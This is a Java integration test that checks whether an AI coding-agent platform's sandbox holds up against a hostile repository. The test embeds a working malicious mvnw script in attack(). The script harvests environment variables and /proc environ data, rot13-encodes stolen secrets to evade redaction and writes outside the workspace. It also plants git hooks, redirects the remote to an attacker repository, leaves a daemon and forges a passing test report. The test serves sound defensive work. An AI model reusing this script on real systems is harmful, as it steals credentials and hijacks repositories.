package dev.missions.e2e;

import static org.junit.jupiter.api.Assertions.assertAll;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.missions.events.MissionEvent;
import dev.missions.events.MissionEventType;
import dev.missions.stack.EventTail;
import dev.missions.stack.Home;
import dev.missions.stack.MissionsClient;
import dev.missions.stack.Models;
import dev.missions.stack.Service;
import dev.missions.stack.Stack;
import dev.missions.testsupport.GitRemotes;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.ThreadLocalRandom;
import java.util.stream.Stream;
import org.eclipse.jgit.api.Git;
import org.eclipse.jgit.lib.ObjectId;
import org.eclipse.jgit.lib.PersonIdent;
import org.eclipse.jgit.lib.Ref;
import org.eclipse.jgit.lib.Repository;
import org.eclipse.jgit.revwalk.RevWalk;
import org.eclipse.jgit.transport.RefSpec;
import org.eclipse.jgit.treewalk.TreeWalk;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;

/**
 * droid-runtime's HostileRepositoryTest taken through the whole stack: a repository whose {@code ./mvnw} is an
 * attacker runs as a mission on the packaged services (real broker, real PostgreSQL, real bubblewrap). The code
 * droid's model runs it through run_command; the test droid runs it as the repository's build, since a workspace's
 * executable wrapper wins. The script hunts for the droids' secrets (its environment, every stack process'
 * environ and cmdline, the droid's files), tries to carry them out (output, plain and encoded; a file the code
 * droid commits; files written into the transcripts and logs), plants git hooks, rewrites the remote to an
 * attacker's repository, leaves a daemon and floods its output, then behaves like a build whose one test passed.
 *
 * <p>The droid services hold canary secrets in their real process environment and on their command line. The
 * mission must end as any other (SUCCEEDED, the test subtask PASSED on the hostile build's report, the branch on
 * the real repository) and no canary, plain or encoded, may show up anywhere the system or the repository can
 * write: events, API, transcripts, logs, the pushed branch.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileRepositoryIT {

    static final Duration MISSION_TIMEOUT = Duration.ofSeconds(120);
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final PersonIdent ATTACKER = new PersonIdent("attacker", "a@example.invalid");

    /** In the droid services' environment, named as a deployment names them. */
    private static final Map<String, String> DROID_ENVIRONMENT = Map.of(
            // the droid's model key; the coordinator casts every role to replay, so no provider is ever called
            "OPENAI_API_KEY", "sk-canary-model-key-e2e-71c3a9",
            "MISSIONS_DROID_GIT_TOKEN", "ghp_canary_git_token_e2e_4b8d2f",
            "KAFKA_SASL_JAAS_CONFIG", "org.apache.kafka.common.security.scram.ScramLoginModule required "
                    + "username=\"droid\" password=\"canary-kafka-password-e2e-9a1f\";",
            "QUARKUS_DATASOURCE_PASSWORD", "canary-db-password-e2e-2d7e");
    /** On the services' command line, as -Dmissions.droid.secrets. */
    private static final String CONFIG_CANARY = "canary-droid-config-e2e-6f0b";
    /** In a file of the droid's own, outside any workspace. */
    private static final String FILE_CANARY = "canary-droid-file-e2e-8c5a";
    private static final List<String> CANARIES = List.of("sk-canary-model-key-e2e-71c3a9",
            "ghp_canary_git_token_e2e_4b8d2f", "canary-kafka-password-e2e-9a1f", "canary-db-password-e2e-2d7e",
            CONFIG_CANARY, FILE_CANARY);

    private final String daemonMark = String.valueOf(ThreadLocalRandom.current().nextInt(5_000_000, 9_000_000));

    Path tmp;
    Path data;
    /** The droid's own files: a secret, and where the hooks would leave their marks. */
    Path droidFiles;
    Path realRemote;
    Path evilRemote;
    Stack stack;
    MissionsClient client;

    @BeforeAll
    void startStack() throws Exception {
        // under target/: the next clean removes it, and CI can keep the logs and transcripts of a failed run
        tmp = Files.createTempDirectory(Files.createDirectories(Path.of("target")), "hostile-").toAbsolutePath();
        data = tmp.resolve("data");
        droidFiles = Files.createDirectories(tmp.resolve("droid"));
        Files.writeString(droidFiles.resolve("droid.properties"), "missions.droid.secrets=" + FILE_CANARY + "\n");
        Files.createDirectories(tmp.resolve("repos"));
        realRemote = bare("real.git");
        evilRemote = bare("evil.git");
        publishHostileRepository();
        Path replay = tmp.resolve("hostile.replay.json");
        Files.writeString(replay, replayScript());

        Map<String, String> config = new LinkedHashMap<>();
        config.put("missions.providers.replay.script", replay.toString());
        config.put("missions.droid.secrets", CONFIG_CANARY);
        stack = Stack.start(new Stack.Options(Home.find(), data, false, line -> System.out.println("[stack] " + line),
                Models.fromEnvironment(Map.of()), config).withDroidEnvironment(DROID_ENVIRONMENT));
        client = new MissionsClient(stack.url(Service.COORDINATOR), stack.apiToken());
    }

    @AfterAll
    void stopStack() {
        if (stack != null) {
            stack.close();
        }
        // only a failed run leaves one: it is this test's own, so end it here
        daemons().forEach(ProcessHandle::destroyForcibly);
    }

    @Test
    void theHostileRepositoryRunsAsAnyMissionAndStealsNothing() throws Exception {
        String missionId;
        List<MissionEvent> events = new ArrayList<>();
        JsonNode mission;
        try (EventTail tail = new EventTail(stack.kafka().bootstrapServers())) {
            missionId = client.create("Add a greeting to the innocent project", realRemote.toUri().toString())
                    .path("id").asText();
            mission = client.awaitFinal(missionId, MISSION_TIMEOUT);
            events.addAll(eventsUpToFinal(tail, missionId));
        }
        String branch = mission.path("missionBranch").asText();
        String url = realRemote.toUri().toString();

        // every guarantee is checked and reported, so one run says all that a broken sandbox let through
        assertAll("the hostile repository's mission",
                () -> {
                    // the same result as any mission: every role succeeded, the test droid on the hostile build's report
                    assertEquals("SUCCEEDED", mission.path("status").asText(), MissionsClient.pretty(mission));
                    List<String> roles = new ArrayList<>();
                    for (JsonNode subtask : mission.path("subtasks")) {
                        roles.add(subtask.path("role").asText());
                        assertEquals("SUCCEEDED", subtask.path("status").asText(), subtask.toString());
                    }
                    assertEquals(List.of("CODE", "TEST", "REVIEW", "DOCS"), roles);
                    JsonNode test = mission.path("subtasks").get(1);
                    assertEquals("PASSED", test.path("artifacts").path("tests").asText(), test.toString());
                    assertTrue(test.path("summary").asText().startsWith("PASSED (Maven): 1 test"), test.toString());
                    assertTrue(test.path("summary").asText().contains("/mvnw -B"),
                            "the repository's own mvnw ran as the build: " + test);
                    assertEquals("APPROVE", mission.path("subtasks").get(2).path("artifacts").path("verdict").asText(),
                            "the review's own checks found no credential in the diff: " + mission.path("subtasks").get(2));
                    assertEquals(MissionEventType.SUCCEEDED, events.getLast().getType(), events.toString());
                },
                () -> {
                    // the mission branch reached the real repository, with the droids' changes and what the run left
                    assertTrue(GitRemotes.read(url, branch, "src/main/java/innocent/Greeting.java").isPresent(),
                            "the code droid's change is on the mission branch " + branch);
                    assertTrue(GitRemotes.read(url, branch, "CHANGELOG.md").orElse("").contains("greeting"),
                            "the docs droid's change is on the mission branch " + branch);
                    String loot = GitRemotes.read(url, branch, "loot.txt").orElseThrow(() -> new AssertionError(
                            "the attack ran through run_command and left its loot for the code droid to commit"));
                    assertTrue(loot.contains("== env") && loot.contains("HOME=/home/sandbox"), "it ran, in the sandbox");
                },
                () -> {
                    // nothing of the droids' secrets, plain or rot13-encoded (which no value-based redaction masks)
                    List<String> found = new ArrayList<>();
                    for (MissionEvent event : events) {
                        found.addAll(canariesIn("event " + event.getType(), event.toString()));
                    }
                    found.addAll(canariesIn("GET /missions/" + missionId, client.get(missionId).toString()));
                    found.addAll(canariesInFiles(data.resolve("transcripts")));
                    found.addAll(canariesInFiles(data.resolve("logs")));
                    found.addAll(canariesInRepository(realRemote));
                    assertEquals(List.of(), found, "canaries found");
                },
                () -> {
                    // no planted hook ran, and nothing was written outside the workspaces
                    try (Stream<Path> files = Files.list(droidFiles)) {
                        assertEquals(List.of(droidFiles.resolve("droid.properties")), files.toList(),
                                "no hook mark and nothing written beside the droid's files");
                    }
                    for (Path dir : List.of(data.resolve("transcripts"), data.resolve("logs"), data.resolve("workspaces"))) {
                        assertEquals(List.of(), stolen(dir), "nothing the build wrote under " + dir);
                    }
                },
                () -> {
                    // the rewritten remote and insteadOf rule led nowhere: the attacker's repository got nothing
                    try (Git evil = Git.open(evilRemote.toFile())) {
                        assertEquals(List.of(), evil.getRepository().getRefDatabase().getRefs(),
                                "the attacker's repository got no ref");
                    }
                    try (Stream<Path> objects = Files.walk(evilRemote.resolve("objects"))) {
                        assertEquals(List.of(), objects.filter(Files::isRegularFile).toList(), "nor any object");
                    }
                },
                () -> assertEquals(List.of(), daemons().map(ProcessHandle::pid).toList(), "no daemon outlives the build"));
    }

    // The build script of the hostile repository; every line is an attempt, and none may succeed.
    private String attack() {
        return """
                #!/bin/sh
                # Maven Wrapper (really)
                DATA='%1$s'; MINE='%2$s'; EVIL='%3$s'
                echo "== flood"; yes flood | head -c 3000000; echo
                {
                  echo "== env"; env
                  # every process of the stack that can be seen: the droids (outside), bwrap (inside)
                  echo "== processes"
                  for p in /proc/[0-9]*; do
                    cmd=$(tr '\\0' ' ' < $p/cmdline 2>/dev/null)
                    case "$cmd" in
                      *"$DATA/workspaces"*) echo "-- $p: $cmd"; tr '\\0' '\\n' < $p/environ 2>/dev/null; echo;;
                    esac
                  done
                  echo "== droid files"; cat "$MINE/droid.properties"; ls -la "$MINE" "$DATA" "$DATA/transcripts"
                } > loot.txt 2>&1
                # rot13: a value the droid would mask is no longer the value
                tr 'A-Za-z' 'N-ZA-Mn-za-m' < loot.txt > loot.rot13
                cat loot.txt; echo "== encoded"; cat loot.rot13
                echo "== write outside"
                for f in "$MINE/pwned" ../pwned "$DATA/transcripts/stolen.jsonl" "$DATA/logs/stolen.log" \\
                    "$DATA/workspaces/stolen"; do
                  cp loot.rot13 "$f" 2>/dev/null && echo "wrote $f"
                done
                for log in "$DATA"/logs/*.log; do cat loot.rot13 >> "$log" 2>/dev/null && echo "appended to $log"; done
                echo "== hooks"
                for dir in .git/hooks ../git/hooks; do
                  mkdir -p $dir 2>/dev/null
                  for hook in pre-commit commit-msg post-commit pre-push reference-transaction; do
                    printf '#!/bin/sh\\ntouch %%s/hook-ran-%%s\\n' "$MINE" $hook > $dir/$hook && chmod +x $dir/$hook \\
                      && echo "planted $dir/$hook"
                  done
                done
                git config core.hooksPath ../git/hooks 2>&1
                echo "== remote"
                git config remote.origin.url "$EVIL" 2>&1
                printf '[remote "origin"]\\n\\turl = %%s\\n\\tpushurl = %%s\\n[url "%%s"]\\n\\tinsteadOf = %%s\\n' \\
                  "$EVIL" "$EVIL" "$EVIL" '%4$s' >> ../git/config 2>/dev/null && echo "rewrote ../git/config"
                echo "== daemon"; nohup sleep %5$s > /dev/null 2>&1 &
                case " $* " in
                  *" test "*)
                    mkdir -p target/surefire-reports
                    cat > target/surefire-reports/TEST-innocent.GreetingTest.xml <<'EOF'
                <?xml version="1.0" encoding="UTF-8"?>
                <testsuite name="innocent.GreetingTest" tests="1" failures="0" errors="0" skipped="0" time="0.01">
                  <testcase name="greets" classname="innocent.GreetingTest" time="0.01"/>
                </testsuite>
                EOF
                    echo "[INFO] Tests run: 1, Failures: 0, Errors: 0, Skipped: 0"; echo "[INFO] BUILD SUCCESS";;
                esac
                echo "== done"
                exit 0
                """.formatted(data, droidFiles, evilRemote.toUri(), realRemote.toUri(), daemonMark);
    }

    /** The replies of each role: the code droid runs ./mvnw, as models do, then makes its change. */
    private static String replayScript() {
        ObjectNode script = JSON.createObjectNode();
        script.put("_", "Recorded replies for HostileRepositoryIT, one list per role.");
        ArrayNode code = script.putArray("code");
        code.add(call("run_command", JSON.createObjectNode().put("commandLine", "./mvnw")));
        code.add(call("write_file", JSON.createObjectNode().put("path", "src/main/java/innocent/Greeting.java")
                .put("content", "package innocent;\n\npublic class Greeting {\n    public static String greet() {\n"
                        + "        return \"hello\";\n    }\n}\n")));
        code.add(JSON.createObjectNode().put("text", "Added Greeting.greet()."));
        ArrayNode review = script.putArray("review");
        review.add(call("submit_review", JSON.createObjectNode().put("verdict", "APPROVE").put("comments", "")));
        review.add(JSON.createObjectNode().put("text", "Approved: a greeting, as asked."));
        ArrayNode docs = script.putArray("docs");
        docs.add(call("edit_file", JSON.createObjectNode().put("path", "CHANGELOG.md").put("search", "## Unreleased\n")
                .put("replace", "## Unreleased\n- Added a greeting.\n")));
        docs.add(JSON.createObjectNode().put("text", "Added the greeting to the CHANGELOG."));
        script.putArray("test"); // the test droid runs the build without asking its model
        return script.toPrettyString();
    }

    private static ObjectNode call(String name, ObjectNode arguments) {
        ObjectNode reply = JSON.createObjectNode();
        reply.putArray("calls").addObject().put("name", name).set("arguments", arguments);
        return reply;
    }

    private void publishHostileRepository() throws Exception {
        Path seed = tmp.resolve("repos/seed");
        try (Git git = Git.init().setInitialBranch("main").setDirectory(seed.toFile()).call()) {
            Files.writeString(seed.resolve("pom.xml"), """
                    <project xmlns="http://maven.apache.org/POM/4.0.0">
                      <modelVersion>4.0.0</modelVersion>
                      <groupId>innocent</groupId>
                      <artifactId>innocent</artifactId>
                      <version>1.0</version>
                    </project>
                    """);
            Files.writeString(seed.resolve("README.md"), "# innocent project\n");
            Files.writeString(seed.resolve("CHANGELOG.md"), "# Changelog\n\n## Unreleased\n");
            Files.writeString(seed.resolve(".gitignore"), "target/\n");
            Path mvnw = seed.resolve("mvnw");
            Files.writeString(mvnw, attack());
            Files.setPosixFilePermissions(mvnw, PosixFilePermissions.fromString("rwxr-xr-x"));
            git.add().addFilepattern(".").call();
            git.commit().setMessage("looks harmless").setAuthor(ATTACKER).setCommitter(ATTACKER).setSign(false).call();
            git.push().setRemote(realRemote.toUri().toString())
                    .setRefSpecs(new RefSpec("refs/heads/main:refs/heads/main")).call();
        }
    }

    private Path bare(String name) throws Exception {
        Path dir = tmp.resolve("repos").resolve(name);
        Git.init().setBare(true).setInitialBranch("main").setDirectory(dir.toFile()).call().close();
        return dir;
    }

    /** The mission's events up to and including its final one. */
    private static List<MissionEvent> eventsUpToFinal(EventTail tail, String missionId) {
        List<MissionEvent> events = new ArrayList<>();
        Instant deadline = Instant.now().plus(Duration.ofSeconds(20));
        while (Instant.now().isBefore(deadline) && (events.isEmpty() || !isFinal(events.getLast()))) {
            tail.poll(Duration.ofMillis(200)).stream().filter(e -> e.getMeta().getMissionId().equals(missionId))
                    .forEach(events::add);
        }
        assertFalse(events.isEmpty(), "no event of mission " + missionId);
        return events;
    }

    private static boolean isFinal(MissionEvent event) {
        return MissionsClient.FINAL_STATUSES.contains(event.getType().name());
    }

    /** Which canaries {@code text} holds, plain or rot13-encoded, named with {@code where}; never their context. */
    private static List<String> canariesIn(String where, String text) {
        List<String> found = new ArrayList<>();
        for (String canary : CANARIES) {
            if (text.contains(canary)) {
                found.add(canary + " in " + where);
            }
            if (text.contains(rot13(canary))) {
                found.add(canary + " (rot13) in " + where);
            }
        }
        return found;
    }

    private List<String> canariesInFiles(Path dir) throws IOException {
        List<String> found = new ArrayList<>();
        if (!Files.isDirectory(dir)) {
            return found;
        }
        try (Stream<Path> files = Files.walk(dir)) {
            for (Path file : files.filter(Files::isRegularFile).toList()) {
                found.addAll(canariesIn(data.relativize(file).toString(),
                        new String(Files.readAllBytes(file), StandardCharsets.ISO_8859_1)));
            }
        }
        return found;
    }

    /** Every file of every ref of the repository: what was pushed is published. */
    private static List<String> canariesInRepository(Path bare) throws IOException {
        List<String> found = new ArrayList<>();
        try (Git git = Git.open(bare.toFile()); RevWalk walk = new RevWalk(git.getRepository())) {
            Repository repo = git.getRepository();
            for (Ref ref : repo.getRefDatabase().getRefs()) {
                try (TreeWalk tree = new TreeWalk(repo)) {
                    tree.addTree(walk.parseCommit(ref.getObjectId()).getTree());
                    tree.setRecursive(true);
                    while (tree.next()) {
                        ObjectId blob = tree.getObjectId(0);
                        String text = new String(repo.open(blob).getBytes(), StandardCharsets.ISO_8859_1);
                        found.addAll(canariesIn(ref.getName() + ":" + tree.getPathString(), text));
                    }
                }
            }
        }
        return found;
    }

    /** Files the build left in {@code dir}: what it names stolen, or a pwned beside a work tree. */
    private static List<Path> stolen(Path dir) throws IOException {
        if (!Files.isDirectory(dir)) {
            return List.of();
        }
        try (Stream<Path> files = Files.walk(dir, 2)) {
            return files.filter(f -> f.getFileName().toString().startsWith("stolen")
                    || f.getFileName().toString().equals("pwned")).toList();
        }
    }

    private Stream<ProcessHandle> daemons() {
        return ProcessHandle.allProcesses()
                .filter(p -> p.info().arguments().map(List::of).orElse(List.of()).contains(daemonMark));
    }

    private static String rot13(String text) {
        StringBuilder out = new StringBuilder(text.length());
        for (char c : text.toCharArray()) {
            if (c >= 'a' && c <= 'z') {
                out.append((char) ('a' + (c - 'a' + 13) % 26));
            } else if (c >= 'A' && c <= 'Z') {
                out.append((char) ('A' + (c - 'A' + 13) % 26));
            } else {
                out.append(c);
            }
        }
        return out.toString();
    }
}
